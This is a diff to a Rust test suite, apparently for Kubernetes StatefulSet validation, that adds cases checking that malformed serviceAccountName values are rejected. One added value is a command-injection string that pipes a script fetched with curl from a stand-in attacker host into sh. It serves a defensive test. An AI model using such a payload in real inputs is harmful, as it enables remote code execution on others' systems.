@@ -219,6 +219,17 @@ fn sts_7_3_templates() {
             &["containers[0].image", "5"],
         ),
         (
+            &[(
+                "/spec/template/spec/serviceAccountName",
+                json!("$(curl${IFS}evil.example|sh)"),
+            )],
+            &["spec.template.spec.serviceAccountName: Invalid value", "subdomain"],
+        ),
+        (
+            &[("/spec/template/spec/serviceAccount", json!("a b"))],
+            &["spec.template.spec.serviceAccountName: Invalid value", "subdomain"],
+        ),
+        (
             &[("/spec/template/spec/volumes", json!([{"name": "v"}, {"name": "v"}]))],
             &["volumes[1].name", "Duplicate"],
         ),
